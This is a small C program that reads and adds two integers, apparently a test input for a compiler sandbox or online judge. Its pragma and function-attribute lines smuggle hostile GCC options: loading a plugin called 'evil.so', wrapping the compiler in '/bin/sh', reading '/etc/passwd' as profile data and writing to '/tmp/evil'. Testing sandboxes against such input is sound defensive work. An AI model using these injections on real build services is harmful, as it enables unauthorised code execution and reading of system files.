#pragma GCC optimize("-flto", "-fplugin=evil.so", "-wrapper,/bin/sh", "-fprofile-generate=/tmp", "-fdump-tree-all")
#include <stdio.h>

__attribute__((optimize("-fprofile-use=/etc/passwd", "-o/tmp/evil"))) static int plus(int a, int b) { return a + b; }

int main(void) {
    int a, b;
    if (scanf("%d %d", &a, &b) != 2) {
        return 1;
    }
    printf("%d\n", plus(a, b));
    return 0;
}
